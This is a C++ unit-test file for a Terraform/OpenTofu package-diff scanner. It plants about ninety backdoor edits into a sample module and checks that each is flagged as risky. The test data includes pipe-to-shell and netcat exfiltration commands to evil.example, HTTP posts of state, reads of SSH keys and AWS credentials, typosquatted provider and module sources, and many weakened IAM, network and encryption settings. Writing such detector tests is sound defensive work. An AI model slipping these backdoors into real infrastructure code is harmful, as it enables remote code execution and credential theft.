// Planted backdoors: small changes of a module that looks like a published one. Each must be found, and be at least
// risky, so that no summary folds it.

#include <boost/test/unit_test.hpp>
#include <filesystem>
#include <map>
#include <set>
#include <string_view>

#include "plugin/diff/package_diff.h"
#include "tests/support/temporary_directory.h"

using namespace modlock;
using namespace modlock::test;

namespace fs = std::filesystem;

BOOST_AUTO_TEST_SUITE(backdoors)

namespace {

using Files = std::map<std::string, std::string>;

// A module for a service with its network, which runs a script and calls two modules.
const Files& module_files() {
  static const Files files = {
      {"versions.tf",
       "terraform {\n  required_version = \">= 1.6\"\n  required_providers {\n    aws = {\n"
       "      source  = \"hashicorp/aws\"\n      version = \">= 5.0\"\n    }\n    null = {\n"
       "      source = \"hashicorp/null\"\n    }\n  }\n}\n"},
      {"variables.tf",
       "variable \"name\" {\n  type    = string\n  default = \"app\"\n}\n\nvariable \"cidr\" {\n  type    = string\n"
       "  default = \"10.0.0.0/16\"\n}\n"},
      {"main.tf",
       "locals {\n  banner = \"ready\"\n}\n\nresource \"aws_vpc\" \"this\" {\n  cidr_block = var.cidr\n}\n\n"
       "resource \"aws_instance\" \"web\" {\n  ami           = \"ami-1\"\n  instance_type = \"t3.small\"\n"
       "  user_data     = templatefile(\"${path.module}/boot.sh.tftpl\", { name = var.name })\n\n  lifecycle {\n"
       "    prevent_destroy = true\n  }\n}\n\nresource \"null_resource\" \"notify\" {\n"
       "  provisioner \"local-exec\" {\n    command = \"echo ${local.banner}\"\n  }\n}\n"},
      {"iam.tf",
       "data \"aws_iam_policy_document\" \"app\" {\n  statement {\n    actions   = [\"s3:GetObject\"]\n"
       "    resources = [\"arn:aws:s3:::app/*\"]\n    principals {\n      type        = \"AWS\"\n"
       "      identifiers = [\"arn:aws:iam::111111111111:role/app\"]\n    }\n  }\n}\n\n"
       "resource \"aws_security_group_rule\" \"in\" {\n  type        = \"ingress\"\n  cidr_blocks = [var.cidr]\n}\n"},
      {"calls.tf",
       "module \"label\" {\n  source  = \"acme/label/null\"\n  version = \"~> 1.0\"\n}\n\nmodule \"db\" {\n"
       "  source = \"./modules/db\"\n  size   = 1\n}\n\nmodule \"git\" {\n"
       "  source = \"git::https://github.com/acme/network.git?ref=v1.0.0\"\n}\n"},
      {"outputs.tf",
       "output \"id\" {\n  value = aws_vpc.this.id\n}\n\noutput \"key\" {\n  value     = var.name\n"
       "  sensitive = true\n}\n"},
      {"security.tf",
       "variable \"open\" {\n  default = false\n}\n\nvariable \"vpc\" {\n  type    = object({ http_tokens = "
       "optional(string, \"required\"), id = string })\n  default = { id = \"a\" }\n}\n\nvariable \"test\" {\n"
       "  default = \"StringEquals\"\n}\n\nvariable \"kms_key\" {\n  default = null\n}\n\nlocals {\n"
       "  managed  = { app = \"AmazonEKSClusterPolicy\" }\n  services = [\"lambda.amazonaws.com\"]\n"
       "  rules    = {\n    web = { port = 443, cidr_blocks = [\"10.0.0.0/8\"] }\n  }\n  encrypts = true\n}\n\n"
       "resource \"aws_iam_role_policy_attachment\" \"app\" {\n  for_each   = local.managed\n  role       = "
       "aws_iam_role.app.name\n  policy_arn = each.value\n}\n\nresource \"aws_iam_role\" \"app\" {\n  name = "
       "var.name\n  tags = { team = \"a\" }\n}\n\ndata \"aws_iam_policy_document\" \"trust\" {\n  statement {\n"
       "    actions = [\"sts:AssumeRole\"]\n    principals {\n      type        = \"Service\"\n"
       "      identifiers = local.services\n    }\n    condition {\n      test     = var.test\n"
       "      variable = \"aws:SourceAccount\"\n      values   = [\"false\"]\n    }\n  }\n}\n\n"
       "resource \"aws_security_group_rule\" \"all\" {\n  for_each    = local.rules\n  from_port   = "
       "each.value.port\n  cidr_blocks = each.value.cidr_blocks\n}\n\nresource \"aws_network_acl_rule\" \"in\" {\n"
       "  rule_action = \"deny\"\n}\n\nresource \"aws_route\" \"nat\" {\n  nat_gateway_id = "
       "aws_nat_gateway.a.id\n}\n\nresource \"aws_eks_cluster\" \"a\" {\n  enabled_cluster_log_types = "
       "[\"audit\"]\n  vpc_config {\n    endpoint_public_access = var.open\n  }\n  dynamic \"encryption_config\" {\n"
       "    for_each = local.encrypts ? [1] : []\n    content {\n      resources = [\"secrets\"]\n    }\n  }\n}\n\n"
       "resource \"aws_eks_pod_identity_association\" \"a\" {\n  namespace = var.name\n}\n\n"
       "resource \"aws_launch_template\" \"a\" {\n  image_id = data.aws_ami.a.id\n  key_name = var.kms_key\n"
       "  metadata_options {\n    http_tokens = \"required\"\n  }\n  network_interfaces {\n"
       "    associate_public_ip_address = false\n  }\n}\n\nresource \"azurerm_key_vault\" \"a\" {\n"
       "  network_acls {\n    default_action = \"Deny\"\n  }\n}\n\nresource \"aws_lambda_function\" \"a\" {\n"
       "  environment {\n    variables = {}\n  }\n}\n\nresource \"docker_image\" \"a\" {\n  build {\n"
       "    build_args = {}\n  }\n}\n\ndata \"tls_certificate\" \"a\" {\n  url = aws_eks_cluster.a.issuer\n}\n\n"
       "resource \"aws_flow_log\" \"a\" {\n  count        = 1\n  traffic_type = \"ALL\"\n}\n\n"
       "resource \"aws_s3_bucket_server_side_encryption_configuration\" \"a\" {\n  kms_key_id = var.kms_key\n}\n\n"
       "resource \"aws_db_instance\" \"a\" {\n  storage_encrypted   = true\n  publicly_accessible = false\n}\n\n"
       "resource \"aws_instance\" \"b\" {\n  metadata_options {\n    http_tokens = var.vpc.http_tokens\n  }\n}\n"},
      {"boot.sh.tftpl", "#!/bin/sh\necho ${name}\n"},
      {"scripts/setup.sh", "#!/bin/sh\necho setup\n"},
      {"files/data.txt", "plain text\n"},
      {"modules/db/main.tf",
       "variable \"size\" {\n  type = number\n}\n\nresource \"aws_db_instance\" \"this\" {\n"
       "  allocated_storage = var.size\n}\n"},
  };
  return files;
}

// A change of the module: `before` in `file` becomes `after`; an empty `before` adds `after` at the end of the file,
// which may be new.
struct Backdoor {
  const char* name;
  const char* file;
  const char* before;
  std::string after;
  const char* rule;
};

std::string null_provisioner(const std::string& body) {
  return "resource \"null_resource\" \"x\" {\n  provisioner " + body + "\n}\n";
}

std::string data(const std::string& type, const std::string& body) {
  return "data \"" + type + "\" \"x\" {\n  " + body + "\n}\n";
}

const std::string kElf(
    "\x7f"
    "ELF\2\1\1\0\0\0\0\0",
    12);  // NOLINT(bugprone-string-literal-with-embedded-nul)

const std::vector<Backdoor>& planted() {
  static const std::vector<Backdoor> rows = {
      // code that runs on the machine of the user
      {"a local-exec", "extra.tf", "",
       null_provisioner("\"local-exec\" {\n    command = \"curl evil.example | sh\"\n  }"), "provisioner"},
      {"a remote-exec", "extra.tf", "", null_provisioner("\"remote-exec\" {\n    inline = [\"id\"]\n  }"),
       "provisioner"},
      {"a file provisioner", "extra.tf", "",
       null_provisioner("\"file\" {\n    source = \"a\"\n    destination = \"/etc/cron.d/a\"\n  }"), "provisioner"},
      {"a provisioner of destruction", "extra.tf", "",
       null_provisioner("\"local-exec\" {\n    when = destroy\n    command = \"id\"\n  }"), "provisioner"},
      {"another command", "main.tf", "echo ${local.banner}", "echo ${local.banner}; env | nc evil.example 1",
       "provisioner"},
      {"another interpreter", "main.tf", "    command = \"echo",
       "    interpreter = [\"python3\", \"-c\"]\n    command = \"echo", "provisioner"},
      {"the environment of a command", "main.tf", "    command = \"echo",
       "    environment = { BASH_ENV = \"x\" }\n    command = \"echo", "provisioner"},
      {"a local value of a command", "main.tf", "banner = \"ready\"", "banner = base64decode(\"YDtpZGA=\")",
       "effective-change"},
      {"a dynamic name in terraform_data", "extra.tf", "",
       "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = join(\"\", [\"i\", "
       "\"d\"])\n  }\n}\n",
       "provisioner"},
      {"a provisioner in JSON", "extra.tf.json", "",
       R"({"resource":{"null_resource":{"x":{"provisioner":{"local-exec":{"command":"id"}}}}}})", "provisioner"},
      {"a provisioner in JSON with escapes", "extra.tf.json", "",
       R"({"\u0072esource":{"null_resource":{"x":{"provisioner":[{"local-\u0065xec":{"command":"id"}}]}}}})",
       "provisioner"},
      {"an override file", "main_override.tf", "",
       "resource \"null_resource\" \"notify\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n",
       "provisioner"},
      {"an override file in JSON", "override.tf.json", "",
       R"({"resource":{"aws_vpc":{"this":{"provisioner":{"local-exec":{"command":"id"}}}}}})", "provisioner"},
      {"a file that OpenTofu reads first", "main.tofu", "",
       null_provisioner("\"local-exec\" {\n    command = \"id\"\n  }"), "provisioner"},
      {"a provisioner of a nested module", "modules/db/main.tf", "",
       null_provisioner("\"local-exec\" {\n    command = \"id\"\n  }"), "provisioner"},
      // data that is sent, or commands that run at plan
      {"an external program", "extra.tf", "", data("external", "program = [\"sh\", \"-c\", \"id\"]"), "data-source"},
      {"an external program in a nested module", "modules/db/x.tf", "", data("external", "program = [\"id\"]"),
       "data-source"},
      {"an http request", "extra.tf", "", data("http", "url = \"https://evil.example/?${var.name}\""), "data-source"},
      {"a post of state", "extra.tf", "",
       data("http", "url = \"https://evil.example\"\n  method = \"POST\"\n  request_body = jsonencode(aws_vpc.this)"),
       "data-source"},
      {"a remote state", "extra.tf", "",
       data("terraform_remote_state", "backend = \"http\"\n  config = { address = \"https://evil.example\" }"),
       "data-source"},
      {"a data source in a check", "extra.tf", "",
       "check \"x\" {\n  data \"http\" \"x\" {\n    url = \"https://evil.example\"\n  }\n  assert {\n    condition = "
       "true\n    error_message = \"x\"\n  }\n}\n",
       "data-source"},
      {"a local file as data", "extra.tf", "", data("local_file", "filename = \"/root/.ssh/id_rsa\""), "data-source"},
      {"a lookup of a name", "extra.tf", "", data("dns_a_record_set", "host = \"${var.name}.evil.example\""),
       "provider-added"},
      {"a secret", "extra.tf", "", data("aws_secretsmanager_secret_version", "secret_id = \"prod\""), "secret-read"},
      {"an ephemeral secret", "extra.tf", "",
       "ephemeral \"aws_secretsmanager_secret_version\" \"x\" {\n  secret_id = \"prod\"\n}\n", "ephemeral"},
      {"a key of the machine", "extra.tf", "", "output \"x\" {\n  value = file(\"/etc/passwd\")\n}\n", "outside-path"},
      {"a key of the home directory", "extra.tf", "", "locals {\n  x = file(pathexpand(\"~/.aws/credentials\"))\n}\n",
       "outside-path"},
      {"a file above the module", "extra.tf", "", "locals {\n  x = filebase64(\"${path.root}/terraform.tfstate\")\n}\n",
       "outside-path"},
      {"an output that shows a secret", "outputs.tf", "  sensitive = true\n", "", "sensitive-removed"},
      // other code
      {"a new provider", "versions.tf", "    null = {",
       "    evil = {\n      source = \"evil/evil\"\n    }\n    null = {", "provider-added"},
      {"another source of a provider", "versions.tf", "hashicorp/null", "hashlcorp/null", "provider-added"},
      {"another host of a provider", "versions.tf", "\"hashicorp/null\"", "\"evil.example/hashicorp/null\"",
       "provider-added"},
      {"a provider by its resource", "extra.tf", "", "resource \"evil_thing\" \"x\" {\n}\n", "provider-added"},
      {"another endpoint", "extra.tf", "",
       "provider \"aws\" {\n  endpoints {\n    sts = \"https://evil.example\"\n  }\n}\n", "provider-configuration"},
      {"a module of another host", "calls.tf", "github.com/acme/network", "evil.example/acme/network", "module-source"},
      {"a module of another owner", "calls.tf", "\"acme/label/null\"", "\"acrne/label/null\"", "module-source"},
      {"a module without encryption", "calls.tf", "git::https://github.com", "git::http://github.com", "module-source"},
      {"a new module", "calls.tf", "", "module \"x\" {\n  source = \"evil/x/aws\"\n}\n", "module-source"},
      {"a computed source", "calls.tf", "\"git::https://github.com/acme/network.git?ref=v1.0.0\"",
       "\"git::https://${var.name}/x.git\"", "module-source"},
      // files
      {"another script", "scripts/setup.sh", "echo setup", "curl evil.example | sh", "script"},
      {"a new script", "scripts/x.py", "", "import os\n", "script"},
      {"a script without a suffix", "files/tool", "", "#!/bin/sh\nid\n", "script"},
      {"a binary", "files/tool.bin", "", kElf, "script"},
      {"an executable bit", "files/data.txt", "x-bit", "", "script"},
      {"another user data template", "boot.sh.tftpl", "echo ${name}", "curl evil.example | sh", "script"},
      {"other user data", "main.tf",
       "  user_data     = templatefile(\"${path.module}/boot.sh.tftpl\", { name = var.name })",
       "  user_data     = \"#!/bin/sh\\ncurl evil.example | sh\\n\"", "effective-change"},
      {"user data in base64", "main.tf", "  ami           = \"ami-1\"\n",
       "  ami           = \"ami-1\"\n  user_data_base64 = \"IyEvYmluL3NoCg==\"\n", "effective-change"},
      {"a written file", "extra.tf", "",
       "resource \"local_file\" \"x\" {\n  filename = \"/root/.bashrc\"\n  content = \"id\"\n}\n", "code-resource"},
      // access and destruction
      {"an open port", "iam.tf", "cidr_blocks = [var.cidr]", "cidr_blocks = [\"0.0.0.0/0\"]", "open-network"},
      {"an open port over IPv6", "iam.tf", "cidr_blocks = [var.cidr]", "ipv6_cidr_blocks = [\"::/0\"]", "open-network"},
      {"any principal", "iam.tf", "\"arn:aws:iam::111111111111:role/app\"", "\"*\"", "public-access"},
      {"another account", "iam.tf", "111111111111", "222222222222", "address"},
      {"an access key", "extra.tf", "", "resource \"aws_iam_access_key\" \"x\" {\n  user = \"admin\"\n}\n", "access"},
      {"a resource that is forgotten", "extra.tf", "", "removed {\n  from = aws_s3_bucket.logs\n}\n", "removed-block"},
      {"a file that no one can read", "extra.tf", "", "resource \"a\" {\n", "unreadable"},
      // security of resources that exist
      {"a managed policy in a local value", "security.tf", "\"AmazonEKSClusterPolicy\" }",
       "\"AmazonEKSClusterPolicy\", x = \"AdministratorAccess\" }", "effective-change"},
      {"a policy of each", "security.tf", "policy_arn = each.value",
       "policy_arn = replace(each.value, \"/.*/\", \"AdministratorAccess\")", "effective-change"},
      {"an action of a policy", "security.tf", "\"sts:AssumeRole\"]", "\"sts:AssumeRole\", \"iam:PassRole\"]",
       "effective-change"},
      {"the type of a principal", "security.tf", "= \"Service\"", "= \"AWS\"", "effective-change"},
      {"a service that is trusted", "security.tf", "[\"lambda.amazonaws.com\"]",
       "[\"lambda.amazonaws.com\", \"ec2.amazonaws.com\"]", "effective-change"},
      {"a service after many blanks", "security.tf", "amazonaws.com\"]",
       "amazonaws.com\"," + std::string(300, ' ') + "\"ec2.amazonaws.com\"]", "effective-change"},
      {"the value of a condition", "security.tf", "values   = [\"false\"]", "values   = [\"none\"]",
       "effective-change"},
      {"the default test of a condition", "security.tf", "default = \"StringEquals\"", "default = \"StringLike\"",
       "effective-change"},
      {"no condition", "security.tf",
       "    condition {\n      test     = var.test\n      variable = \"aws:SourceAccount\"\n      values   = "
       "[\"false\"]\n    }\n",
       "", "effective-change"},
      {"changes that are ignored", "security.tf", "  tags = { team",
       "  lifecycle {\n    ignore_changes = [assume_role_policy]\n  }\n  tags = { team", "effective-change"},
      {"an account of an inline policy", "security.tf", "  tags = { team",
       "  permissions_boundary = \"\"\n  assume_role_policy = \"{}\"\n  tags = { team", "effective-change"},
      {"the namespace of an identity", "security.tf", "namespace = var.name", "namespace = \"default\"",
       "effective-change"},
      {"a default that opens an endpoint", "security.tf", "default = false", "default = true", "effective-change"},
      {"a rule in a local value", "security.tf", "cidr_blocks = [\"10.0.0.0/8\"] }",
       "cidr_blocks = [\"10.0.0.0/8\"] }\n    ssh = { port = 22, cidr_blocks = [\"10.0.0.0/7\"] }", "effective-change"},
      {"a range of a rule", "security.tf", "each.value.cidr_blocks", "[for i in [0, 128] : \"${i}.0.0.0/1\"]",
       "effective-change"},
      {"the action of a network ACL", "security.tf", "\"deny\"", "lower(\"ALLOW\")", "effective-change"},
      {"another route", "security.tf", "nat_gateway_id = aws_nat_gateway.a.id",
       "gateway_id = aws_internet_gateway.a.id", "effective-change"},
      {"fewer logs", "security.tf", "[\"audit\"]", "setsubtract([\"audit\"], [\"audit\"])", "effective-change"},
      {"no encryption by a local value", "security.tf", "encrypts = true", "encrypts = !true", "effective-change"},
      {"another image", "security.tf", "data.aws_ami.a.id", "\"ami-0deadbeef\"", "effective-change"},
      {"a key for SSH", "security.tf", "key_name = var.kms_key", "key_name = coalesce(var.kms_key, \"support\")",
       "effective-change"},
      {"metadata without a token", "security.tf", "    http_tokens = \"required\"", "    http_tokens = \"optional\"",
       "effective-change"},
      {"a default in a type", "security.tf", "optional(string, \"required\")", "optional(string, \"optional\")",
       "effective-change"},
      {"a public address", "security.tf", "associate_public_ip_address = false", "associate_public_ip_address = true",
       "effective-change"},
      {"an open vault", "security.tf", "\"Deny\"", "\"Allow\"", "effective-change"},
      {"the environment of a function", "security.tf", "variables = {}",
       "variables = { NODE_OPTIONS = \"--import=x\" }", "effective-change"},
      {"an index for a build", "security.tf", "build_args = {}", "build_args = { PIP_INDEX_URL = var.name }",
       "effective-change"},
      {"a certificate of another server", "security.tf", "url = aws_eks_cluster.a.issuer",
       "url = format(\"https://%s.%s\", \"oidc\", var.name)", "effective-change"},
      {"logs of fewer packets", "security.tf", "\"ALL\"", "\"REJECT\"", "effective-change"},
      {"no flow log", "security.tf", "count        = 1", "count        = 0", "effective-change"},
      {"a key that is not used", "security.tf", "kms_key_id = var.kms_key", "kms_key_id = null", "effective-change"},
      {"no encryption of a disk", "security.tf", "storage_encrypted   = true", "storage_encrypted   = false",
       "effective-change"},
      {"a public database", "security.tf", "publicly_accessible = false", "publicly_accessible = true",
       "effective-change"},
      {"a policy in the name of a parameter", "security.tf", "  network_acls {\n",
       "  network_acls {\n    name = \"open\"\n", "effective-change"},
      {"tags that select", "security.tf", "data \"tls_certificate\" \"a\" {\n",
       "data \"tls_certificate\" \"a\" {\n  tags = { a = \"b\" }\n", "effective-change"},
      {"the name of a call", "calls.tf", "  version = \"~> 1.0\"\n", "  version = \"~> 1.0\"\n  name = \"admin\"\n",
       "effective-change"},
      {"the providers of a local call", "calls.tf", "  size   = 1\n",
       "  size   = 1\n  providers = { aws = aws.other }\n", "effective-change"},
      {"a second call of a local module", "calls.tf", "",
       "module \"more\" {\n  source = \"./modules/db\"\n  size   = 1\n}\n", "new-resource"},
      {"an empty block", "security.tf", "  network_acls {\n", "  network_acls {\n    allow {}\n", "effective-change"},
      {"an argument of a distribution that is not enabled", "extra.tf", "",
       "resource \"aws_cloudfront_distribution\" \"x\" {\n  enabled = false\n}\n", "new-resource"},
      {"a secret in tags", "security.tf", "team = \"a\"", "team = base64encode(each.value.secret)", "secret-shown"},
      {"an environment in a description", "security.tf", "  name = var.name\n",
       "  name = var.name\n  description = jsonencode(var.environment_variables)\n", "secret-shown"},
  };
  return rows;
}

// Changes without an effect on security.
const std::vector<Backdoor>& harmless() {
  static const std::vector<Backdoor> rows = {
      {"a comment", "security.tf", "  rule_action", "  # now\n  rule_action", ""},
      {"other blanks", "security.tf", "    http_tokens = ", "    http_tokens    =    ", ""},
      {"tags", "security.tf", "team = \"a\"", "team = \"b\"", ""},
      {"a new description", "security.tf", "  nat_gateway_id",
       "  description    = \"to the internet\"\n  nat_gateway_id", ""},
      {"a new variable that is null", "security.tf", "  rule_action = \"deny\"\n}\n",
       "  rule_action = \"deny\"\n  icmp_type   = var.icmp\n}\nvariable \"icmp\" {\n  default = null\n}\n", ""},
      {"a block for a new variable", "security.tf", "    default_action = \"Deny\"\n  }\n}\n",
       "    default_action = \"Deny\"\n  }\n  dynamic \"identity\" {\n    for_each = var.identity != null ? "
       "[var.identity] : []\n    content {\n      type = identity.value\n    }\n  }\n}\nvariable \"identity\" {\n  "
       "default = null\n}\n",
       ""},
      {"a local value in between", "security.tf", "  rule_action = \"deny\"\n}\n",
       "  rule_action = local.deny\n}\n\nlocals {\n  deny = \"deny\"\n}\n", ""},
      {"the description of a variable", "security.tf", "variable \"open\" {\n",
       "variable \"open\" {\n  description = \"open\"\n", ""},
      {"a new variable", "security.tf", "", "variable \"more\" {\n  default = {}\n}\n", ""},
  };
  return rows;
}

void plant(Files& files, const Backdoor& backdoor) {
  std::string& text = files[backdoor.file];
  const std::string_view before = backdoor.before;
  if (before.empty()) {
    text += (text.empty() ? "" : "\n") + backdoor.after;
    return;
  }
  const std::size_t at = text.find(before);
  BOOST_TEST_REQUIRE(at != std::string::npos);
  text.replace(at, before.size(), backdoor.after);
}

PackagePlace write(const TemporaryDirectory& directory, const std::string& name, const Files& files) {
  for (const auto& [path, text] : files) {
    directory.write(name + "/" + path, text);
  }
  return {directory / name, ""};
}

}  // namespace

BOOST_AUTO_TEST_CASE(every_planted_backdoor_is_risky) {
  std::set<std::string> names;
  for (const Backdoor& backdoor : planted()) {
    BOOST_TEST_CONTEXT(backdoor.name) {
      BOOST_TEST(names.insert(backdoor.name).second);
      const TemporaryDirectory directory;
      const bool is_mode = std::string_view(backdoor.before) == "x-bit";
      Files after = module_files();
      if (!is_mode) {
        plant(after, backdoor);
      }
      const auto old_place = write(directory, "before", module_files());
      const auto new_place = write(directory, "after", after);
      if (is_mode) {
        fs::permissions(directory / "after" / backdoor.file, fs::perms::owner_exec, fs::perm_options::add);
      }
      const auto diff = diff_packages(old_place, new_place, nullptr, ClientKind::opentofu, {});
      BOOST_TEST_REQUIRE(diff.has_value());
      std::string found;
      bool is_found = false;
      for (const messages::DiffFinding& finding : diff->findings) {
        found += finding.grade + " " + finding.rule + ": " + finding.message + "\n";
        is_found = is_found || (finding.rule == backdoor.rule && finding.grade == "risky");
      }
      BOOST_TEST(is_found, "expected risky " << backdoor.rule << ", found:\n" << found);
    }
  }
  BOOST_TEST(names.size() >= 50U);
}

// The rows find changes, and not the module itself.
BOOST_AUTO_TEST_CASE(the_module_without_a_backdoor_has_no_findings) {
  const TemporaryDirectory directory;
  const auto diff = diff_packages(write(directory, "before", module_files()), write(directory, "after", module_files()),
                                  nullptr, ClientKind::opentofu, {});
  BOOST_TEST_REQUIRE(diff.has_value());
  BOOST_TEST(diff->findings.empty());
}

BOOST_AUTO_TEST_CASE(a_harmless_change_is_not_risky) {
  for (const Backdoor& change : harmless()) {
    BOOST_TEST_CONTEXT(change.name) {
      const TemporaryDirectory directory;
      Files after = module_files();
      plant(after, change);
      const auto diff = diff_packages(write(directory, "before", module_files()), write(directory, "after", after),
                                      nullptr, ClientKind::opentofu, {});
      BOOST_TEST_REQUIRE(diff.has_value());
      for (const messages::DiffFinding& finding : diff->findings) {
        BOOST_TEST(finding.grade != "risky", finding.rule << ": " << finding.message);
      }
    }
  }
}

BOOST_AUTO_TEST_SUITE_END()
